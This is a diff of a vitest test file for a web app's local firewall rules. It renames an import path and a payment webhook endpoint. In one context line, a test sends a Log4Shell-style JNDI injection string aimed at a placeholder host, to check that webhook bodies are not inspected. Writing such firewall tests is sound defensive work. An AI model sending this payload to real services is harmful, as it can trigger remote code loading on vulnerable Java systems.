@@ -1,6 +1,6 @@
 import { request } from "node:http";
 import { describe, expect, test } from "vitest";
-import { makeFirewall, type FirewallRequest } from "#infra/local/firewall.ts";
+import { makeFirewall, type FirewallRequest } from "#infra/local/edge/firewall.ts";
 import { managedRuleGroups } from "#infra/edge/managed-rules.ts";
 import * as api from "#shared/contract/api.ts";
 import { errorBodySchema } from "#shared/contract/error-body.ts";
@@ -72,7 +72,7 @@ test("[OPS-01] a visitor without a User-Agent, or with a scanner's, sees the pag
 test("[OPS-01] a webhook's content and path are not looked at, only how large it is and how often it comes", async () => {
   const post = async (bytes: number, text = "") =>
     (
-      await fetch(`${edition.origin}${api.receivePaymentNotice.path}`, {
+      await fetch(`${edition.origin}${api.receivePaymentWebhook.path}`, {
         method: "POST",
         headers: { "x-note": "${jndi:ldap://x.example/a}" },
         body: text + "x".repeat(bytes),
